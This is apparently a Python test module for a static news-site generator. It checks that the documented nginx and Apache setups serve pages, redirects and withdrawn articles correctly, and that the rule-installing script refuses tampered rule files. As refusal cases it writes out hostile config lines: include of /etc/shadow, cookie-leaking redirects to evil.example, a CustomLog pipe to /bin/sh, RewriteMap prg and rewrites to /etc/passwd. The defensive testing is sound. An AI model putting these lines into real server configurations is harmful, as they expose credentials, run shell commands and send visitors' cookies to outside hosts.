"""docs/server.md tells the truth: nginx and Apache are started with its very words, and do what it promises."""

from __future__ import annotations

import gzip
import json
import os
import random
import re
import shutil
import subprocess
from collections.abc import Iterator
from email.message import Message
from http.client import HTTPConnection
from pathlib import Path
from typing import NamedTuple

import pytest

import servers
import webservers
from browser import PAGES, chromium
from newsgen.cli import run
from site_test import NOW, SiteTest
from webservers import WebServer, documented

pytestmark = pytest.mark.xdist_group("server docs")

ROOT = Path(__file__).parents[1]
DOCS = ROOT / "docs"
RULES = DOCS / "server" / "newsgen-rules"
ARTICLE = "content/meetings/2024-03-13-gongzuohuiyi.md"
GONE = "/dqgz/meetings/2024/0314-chexia.html"
ADDRESS = "https://sm.example.edu.cn/dqgz/"
LONG = "/info/" + "chang" * 15 + ".htm"
KINDS = ("nginx", "apache")
STATUS = "RewriteCond %{ENV:REDIRECT_STATUS} ^$"
REQUEST = 'RewriteCond %{THE_REQUEST} "^[A-Z]+ /a([?].*)? HTTP/"'
QUERY = "RewriteCond %{QUERY_STRING} ^$"


class Answer(NamedTuple):
    status: int
    headers: Message
    body: bytes


def ask(server: WebServer, path: str, **headers: str) -> Answer:
    """One request, with nothing followed and nothing unpacked."""
    connection = HTTPConnection(servers.HOST, server.port, timeout=servers.LIMIT)
    connection.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})
    answer = connection.getresponse()
    body = answer.read()
    connection.close()
    return Answer(answer.status, answer.headers, body)


@pytest.fixture(scope="module")
def place() -> Iterator[Path]:
    """The folders of a server: `www` with releases and `current`, `rules` as newsgen-rules fills it. One article is withdrawn."""
    with servers.ground() as folder:
        site = folder / "site"
        kept = shutil.ignore_patterns("*.png", ".*", "node_modules")
        for name in ("content", "templates", "theme"):
            shutil.copytree(ROOT / name, site / name, ignore=kept if name != "content" else None)
        shutil.copy(ROOT / "site.yaml", site)
        text = f"---\ntitle: 撤下的一篇\ndate: 2024-03-14\naliases: [/info/1.htm, {LONG}]\n---\n\n正文。\n"
        (site / "content/meetings/2024-03-14-chexia.md").write_text(text, "utf-8")
        moved = f"---\ntitle: 搬家的一篇\ndate: 2024-03-15\naliases: [/info/2.htm?id=1, {LONG}x]\n---\n\n正文。\n"
        (site / "content/meetings/2024-03-15-banjia.md").write_text(moved, "utf-8")
        away = "---\ntitle: 别处的一篇\ndate: 2024-03-16\nredirect: https://www.example.edu.cn/x.htm\naliases: /info/3.htm\n---\n"
        (site / "content/meetings/2024-03-16-biechu.md").write_text(away, "utf-8")
        done = run(["withdraw", GONE.removeprefix("/dqgz/"), "--why", "当事人要求", "-C", str(site), "--now", NOW])
        assert done == 0
        out = folder / "www" / "releases" / "1"
        assert run(["build", "-C", str(site), "-o", str(out), "--now", "2024-12-31T08:00"]) == 0
        (out / ".htpasswd").write_text("x", "utf-8")
        (folder / "www" / "current").symlink_to("releases/1")
        for kind in KINDS:
            taken = take_over(kind, folder)
            assert taken.returncode == 0, taken.stderr
        yield folder


def take_over(
    kind: str, place: Path, test: str = "true", reload: str = "true", address: str = ADDRESS
) -> subprocess.CompletedProcess[str]:
    """Run newsgen-rules."""
    words = [str(RULES), kind, f"{place}/www/current", address, f"{place}/rules", test, reload]
    return subprocess.run(words, capture_output=True, text=True, check=False)


@pytest.fixture(scope="module", params=KINDS)
def server(request: pytest.FixtureRequest, place: Path) -> Iterator[WebServer]:
    """A server set up as the page says."""
    if request.param == "nginx":
        made = webservers.nginx(place, documented("nginx: server", place), documented("nginx: http", place))
    else:
        made = webservers.apache(place, documented("apache: host", place))
    with made as started:
        yield started


def test_pages_are_served_and_must_be_asked_for_each_time(server: WebServer) -> None:
    for path in ("/dqgz/", "/dqgz/meetings/", "/dqgz/about.html", "/dqgz/feed.xml", "/dqgz/assets/greyscale.css"):
        answer = ask(server, path)
        assert (answer.status, answer.headers["Cache-Control"]) == (200, "no-cache"), path
    assert "utf-8" in ask(server, "/dqgz/").headers["Content-Type"].lower()
    assert ask(server, "/dqgz").status == 301
    etag = ask(server, "/dqgz/").headers["ETag"]
    assert ask(server, "/dqgz/", If_None_Match=etag).status == 304


def test_hashed_names_are_kept_for_a_year_and_a_missing_one_is_not(server: WebServer, place: Path) -> None:
    files = [*(place / "www/current/assets").iterdir(), *(place / "www/current/media").iterdir()]
    hashed = [path for path in files if re.search(r"[0-9a-f]{10}(\.\d+|\.share)?\.\w+$", path.name)]
    assert len(hashed) > 5
    for path in hashed:
        answer = ask(server, f"/dqgz/{path.parent.name}/{path.name}")
        assert answer.status == 200
        assert answer.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    missing = ask(server, "/dqgz/media/x-0123456789.jpg")
    assert (missing.status, missing.headers["Cache-Control"]) == (404, "no-cache")


@pytest.mark.parametrize(
    ("path", "status"),
    [
        *((f"/dqgz/nowhere{end}", 404) for end in (".html", "/", "/deep/er.html")),
        *((GONE + end, 410) for end in ("", "?from=wechat", "?")),
        *(("/info/1.htm", 410), ("/info/1.htm?x=1", 410), (LONG, 410)),
    ],
)
def test_what_is_missing_or_withdrawn_shows_one_neutral_page(
    server: WebServer, place: Path, path: str, status: int
) -> None:
    answer = ask(server, path)
    assert (answer.status, answer.headers["Cache-Control"]) == (status, "no-cache")
    assert answer.body == (place / "www/current/404.html").read_bytes()
    assert "Content-Security-Policy" in answer.headers


def test_an_old_address_leads_on(server: WebServer) -> None:
    answer = ask(server, "/info/2.htm?id=1")
    assert answer.status == 301
    assert answer.headers["Location"] == "https://sm.example.edu.cn/dqgz/meetings/2024/0315-banjia.html"
    assert ask(server, "/info/2.htm?id=2").status == 404


def test_an_old_address_of_an_article_that_lives_elsewhere_leads_there_by_a_page_of_the_site(server: WebServer) -> None:
    answer = ask(server, "/info/3.htm")
    assert answer.headers["Location"] == f"{ADDRESS}meetings/2024/0316-biechu.html"
    page = ask(server, "/dqgz/meetings/2024/0316-biechu.html").body
    assert b'content="0; url=https://www.example.edu.cn/x.htm"' in page


@pytest.mark.parametrize(
    "name", ["gone.nginx.conf", "gone.apache.conf", "redirects.nginx.conf", ".newsgen.json", ".htpasswd"]
)
def test_what_is_for_the_server_alone_is_not_served(server: WebServer, place: Path, name: str) -> None:
    assert (place / "www/current" / name).exists()
    assert ask(server, f"/dqgz/{name}").status == 404


def test_what_certificates_are_renewed_by_is_served(server: WebServer, place: Path) -> None:
    (place / "www/current/.well-known").mkdir(exist_ok=True)
    (place / "www/current/.well-known/token").write_text("x", "utf-8")
    assert ask(server, "/dqgz/.well-known/token").status == 200


def test_texts_travel_compressed_and_photos_as_they_are(server: WebServer, place: Path) -> None:
    style = next((place / "www/current/assets").glob("style.*.css")).name
    for path in ("/dqgz/", f"/dqgz/assets/{style}", "/dqgz/feed.xml", "/dqgz/sitemap-2024.xml"):
        answer = ask(server, path, Accept_Encoding="gzip")
        assert answer.headers["Content-Encoding"] == "gzip", path
        assert "Accept-Encoding" in answer.headers["Vary"]
        assert gzip.decompress(answer.body) == ask(server, path).body
    photo = next((place / "www/current/media").glob("*.jpg")).name
    assert ask(server, f"/dqgz/media/{photo}", Accept_Encoding="gzip").headers["Content-Encoding"] is None


def test_no_page_needs_what_the_policy_forbids(server: WebServer) -> None:
    policy = ask(server, "/dqgz/").headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    with chromium() as browser:
        page = browser.new_page()
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        page.route("https://sm.example.edu.cn/**", lambda route: route.abort())  # what 404.html names: another host
        for path in PAGES.values():
            if path != "404.html":
                page.goto(f"{server.url}dqgz/{path}")
        assert [text for text in said if "Content Security Policy" in text] == []
        assert page.evaluate("getComputedStyle(document.body).fontFamily")


def test_a_flip_is_seen_at_once(server: WebServer, place: Path) -> None:
    shutil.copytree(place / "www/releases/1", place / "www/releases/2", symlinks=True)
    (place / "www/releases/2/about.html").write_text("二", "utf-8")
    for name, told in (("2", "二".encode()), ("1", (place / "www/releases/1/about.html").read_bytes())):
        (place / "www/next").symlink_to(f"releases/{name}")
        (place / "www/next").replace(place / "www/current")
        assert ask(server, "/dqgz/about.html").body == told
    shutil.rmtree(place / "www/releases/2")


# ---------------------------------------------------------------- newsgen-rules


@pytest.fixture
def small(tmp_path: Path) -> Path:
    """A live site with one rule."""
    (tmp_path / "www/current").mkdir(parents=True)
    (tmp_path / "www/current/gone.nginx.conf").write_text('# a\n"~^/a[.]html([?].*)?$" 1;\n', "utf-8")
    return tmp_path


def test_new_rules_are_taken_over_and_the_server_reads_them_once(small: Path) -> None:
    for _ in range(2):
        done = take_over("nginx", small, reload=f"echo >> {small}/reloaded")
        assert done.returncode == 0, done.stderr
    assert (small / "reloaded").read_text("utf-8") == "\n"
    assert (small / "rules/gone.nginx.conf").read_bytes() == (small / "www/current/gone.nginx.conf").read_bytes()
    (small / "www/current/gone.nginx.conf").unlink()
    take_over("nginx", small)
    assert (small / "rules/gone.nginx.conf").read_bytes() == b""


OWN = f"{ADDRESS}meetings/2024/0313-a.html"
RULE = "[R=301,L,NE]"
LINES = {
    "gone.nginx.conf": (
        "default 1; } server { listen 81; root /; ",
        "include /etc/shadow;",
        '"include" "/etc/shadow";',
        '"include" 1;',
        '"default" 1;',
        '"hostnames" 1;',
        '"~.*" 1;',
        '"~^/.*$" 1;',
        '"~^/[.]*$" 1;',
        '"~^/a|b$" 1;',
        '"~^/[a-z]$" 1;',
        '"~^/a" 1;',
        '"~^/a$" "$http_cookie";',
        f'"/a" "{OWN}";',
        '"~^/a$"\t1;',
        '"~^/a$" 1; include /etc/shadow;',
        '"~^/a$" 1;\r',
        '"~^/\\a$" 1;',
        '"x\\" " 1; include /f; #";',
        '"a" "b"; include "/etc/shadow";',
        "# a \\",
        "#\tx",
        '"~^/a$" 1;\0',
        '"~^/会$" 1;',
    ),
    "redirects.nginx.conf": (
        '"~.*" "https://evil.example/?c=$http_cookie";',
        '"/a" "https://evil.example/";',
        '"/a" "$http_cookie";',
        f'"/a" "{ADDRESS}$http_cookie";',
        f'"/a" "{ADDRESS}../x.html";',
        f'"/a" "{ADDRESS}a/./b.html";',
        f'"/a" "{ADDRESS}%2e%2e/x.html";',
        f'"/a" "{ADDRESS}/x.html";',
        f'"/a" "{ADDRESS}a.html?next=//evil.example";',
        '"/a" "https://sm.example.edu.cn.evil.example/dqgz/";',
        '"/a" "https://sm.example.edu.cn/dqgzx/a.html";',
        '"/a" "https://smxexample.edu.cn/dqgz/a.html";',
        '"/a" "//evil.example/";',
        '"/a" 1;',
        f'"~^/a$" "{OWN}";',
        f'"default" "{OWN}";',
        f'"/$uri" "{OWN}";',
        f'"/a" "{OWN}"; "include" "/etc/shadow";',
        f'"/a\\" "{OWN}";',
        f"/a {OWN};",
        f'"/a" "{OWN}"',
    ),
    "gone.apache.conf": (
        'CustomLog "|/bin/sh" x',
        "RewriteEngine On\\",
        "RewriteEngine Off",
        "rewriteengine On",
        "# a \\\nCustomLog x y",
        "RewriteRule ^ - [G,L]",
        f"{STATUS}\nRewriteRule ^ - [G,L]",
        STATUS,
        f"{STATUS}\n{REQUEST}",
        f"{REQUEST}\nRewriteRule ^ - [G,L]",
        f"{STATUS}\n{REQUEST}\n# a\nRewriteRule ^ - [G,L]",
        f"{STATUS}\n{REQUEST}\nRewriteRule ^ - [F]",
        f"{STATUS}\n{REQUEST}\nRewriteRule ^ /etc/passwd [L]",
        f'{STATUS}\nRewriteCond %{{THE_REQUEST}} "^[A-Z]+ /.* HTTP/"\nRewriteRule ^ - [G,L]',
        f'{STATUS}\nRewriteCond %{{THE_REQUEST}} "^[A-Z]+ /a|. HTTP/"\nRewriteRule ^ - [G,L]',
        f'{STATUS}\nRewriteCond %{{HTTP_COOKIE}} "^[A-Z]+ /a HTTP/"\nRewriteRule ^ - [G,L]',
        f"RewriteCond %{{QUERY_STRING}} ^$\nRewriteRule ^/a$ {OWN} {RULE}",
    ),
    "redirects.apache.conf": (
        "RewriteRule ^ http://other/ [P]",
        "RewriteMap a prg:/tmp/a",
        "RewriteRule ^/a$\t/etc/passwd\t[L]",
        f"RewriteRule ^/a$ {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ /etc/passwd {RULE}",
        f"{QUERY}\nRewriteRule ^/a$\t/etc/passwd {RULE}",
        f"{QUERY}\nRewriteRule ^/a$  {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/.*$ {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/(a)$ {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^ {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/a {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/\\w+$ {OWN} {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ https://evil.example/%{{HTTP_COOKIE}} {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ {ADDRESS}%{{HTTP_COOKIE}} {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ {ADDRESS}%1 {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ {ADDRESS}$0 {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ {ADDRESS}${{PATH}} {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ https://evil.example/ {RULE}",
        f"{QUERY}\nRewriteRule ^/a$ {OWN} [P]",
        f"{QUERY}\nRewriteRule ^/a$ {OWN} [R=301,L,NE,E=X:1]",
        f"{QUERY}\n{QUERY}\nRewriteRule ^/a$ {OWN} {RULE}",
        QUERY,
        f"RewriteCond %{{QUERY_STRING}} .*\nRewriteRule ^/a$ {OWN} {RULE}",
        f"RewriteCond %{{QUERY_STRING}} ^$ [OR]\nRewriteRule ^/a$ {OWN} {RULE}",
        f"RewriteCond %{{REQUEST_FILENAME}} ^$\nRewriteRule ^/a$ {OWN} {RULE}",
        f"{STATUS}\n{REQUEST}\nRewriteRule ^ - [G,L]",
    ),
}
"""Lines that newsgen never writes, by the file that they stand in."""


@pytest.mark.parametrize(("name", "lines"), [(name, lines) for name, found in LINES.items() for lines in found])
def test_lines_that_newsgen_does_not_write_are_refused(small: Path, name: str, lines: str) -> None:
    kind = name.split(".")[1]
    for text in (lines, f"# a\n{lines}\n# b\n"):
        (small / f"www/current/{name}").write_bytes(text.encode())
        done = take_over(kind, small, reload=f"echo >> {small}/reloaded")
        assert done.returncode == 1, text
        assert "does not write" in done.stderr
        assert not (small / "reloaded").exists()
        assert not (small / f"rules/{name}").exists()


SIGNS = [
    '"',
    "$",
    "\\",
    "\t",
    "\r",
    "\0",
    "{",
    "}",
    "%{HTTP_COOKIE}",
    "${PATH}",
    "$uri",
    ";",
    " ",
    "|",
    ".*",
    "é",
    "'",
    "`",
]


@pytest.mark.parametrize("name", LINES)
def test_a_sign_put_anywhere_into_what_newsgen_writes_opens_nothing(place: Path, small: Path, name: str) -> None:
    """Whatever sign is put wherever: refused, or still one spelt-out address and a page of this site."""
    sound = [
        line for line in (place / "www/current" / name).read_text("utf-8").splitlines() if not line.startswith("#")
    ]
    chance = random.Random(name)
    kind = name.split(".")[1]
    for _ in range(30):
        lines = list(sound)
        at = chance.randrange(len(lines))
        cut = chance.randrange(len(lines[at]) + 1)
        lines[at] = lines[at][:cut] + chance.choice(SIGNS) + lines[at][cut:]
        (small / f"www/current/{name}").write_bytes("\n".join([*lines, ""]).encode())
        if take_over(kind, small).returncode == 0:
            for line in lines:
                assert not re.search(
                    r'[\t\r\0`{}|]|[.][*](?!\))|é|[$](?!"|]| )', line.replace("%{", "", 1).replace("}", "", 1)
                ), line
                assert line.count('"') in (0, 2, 4), line


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("what", ["link", "pipe", "large"])
def test_only_plain_files_of_a_bounded_size_are_read(small: Path, kind: str, what: str) -> None:
    path = small / f"www/current/redirects.{kind}.conf"
    if what == "link":
        path.symlink_to("/etc/passwd")
    elif what == "pipe":
        os.mkfifo(path)
    else:
        with path.open("wb") as file:
            file.truncate(17_000_000)
    done = take_over(kind, small)
    assert done.returncode == 1
    assert "nothing was changed" in done.stderr
    assert not (small / "rules/gone.nginx.conf").exists()


OLD = ("/a-b/~c_d.htm", "/info/x.jsp?a=1&b=%20:+-_~/", "/a+b.htm", "/wbtree/1001:2.htm")
"""Old addresses with every sign that one may have."""


@pytest.mark.parametrize("address", [ADDRESS, "http://[::1]:8080/%E5%85%9A/2024/"])
@pytest.mark.parametrize("kind", KINDS)
def test_whatever_newsgen_writes_is_taken_over_and_does_what_it_says(
    small: Path, site: SiteTest, kind: str, address: str
) -> None:
    text = (site.root / "site.yaml").read_text("utf-8")
    site.write("site.yaml", re.sub("(?m)^url: .*$", f"url: '{address}'", text))
    site.article("meetings/2024-03-13-a.md", aliases=json.dumps(OLD))
    site.article("meetings/2024-03-14-b.md", title="撤下的", aliases=json.dumps([f"{old}y" for old in OLD]))
    assert run(["withdraw", "content/meetings/2024-03-14-b.md", "--why", "x", "-C", str(site.root), "--now", NOW]) == 0
    site.built()
    for name in (f"gone.{kind}.conf", f"redirects.{kind}.conf"):
        shutil.copy(site.root / "public" / name, small / "www/current" / name)
    done = take_over(kind, small, address=address)
    assert done.returncode == 0, done.stderr
    with servers.ground() as ground:
        shutil.copytree(small / "rules", ground / "rules")
        shutil.copytree(site.root / "public", ground / "www/current")
        if kind == "nginx":
            made = webservers.nginx(ground, documented("nginx: server", ground), documented("nginx: http", ground))
        else:
            made = webservers.apache(ground, documented("apache: host", ground))
        with made as server:
            for old in OLD:
                answer = ask(server, old)
                assert (answer.status, answer.headers["Location"]) == (301, f"{address}meetings/2024/0313-a.html"), old
                assert ask(server, f"{old}y").status == 410, old
                assert ask(server, f"{old}z").status == 404, old


@pytest.mark.parametrize(
    "words", [[], ["nginx", "a", "b", "c", "d"], ["nginx", "a", "sm.example.edu.cn", "b", "c", "d"]]
)
def test_a_call_with_other_words_says_how_it_is_called(words: list[str]) -> None:
    done = subprocess.run([str(RULES), *words], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert "newsgen-rules:" in done.stderr


def test_rules_that_the_server_does_not_take_are_taken_back(small: Path) -> None:
    take_over("nginx", small)
    before = (small / "rules/gone.nginx.conf").read_bytes()
    (small / "www/current/gone.nginx.conf").write_text('"~^/b$" 1;\n', "utf-8")
    done = take_over("nginx", small, test="false", reload=f"echo >> {small}/reloaded")
    assert done.returncode == 1
    assert (small / "rules/gone.nginx.conf").read_bytes() == before
    assert not (small / "reloaded").exists()


def test_rules_that_the_server_could_not_read_yet_are_tried_again(small: Path) -> None:
    assert take_over("nginx", small, reload="false").returncode == 1
    assert take_over("nginx", small, reload=f"echo >> {small}/reloaded").returncode == 0
    assert (small / "reloaded").exists()
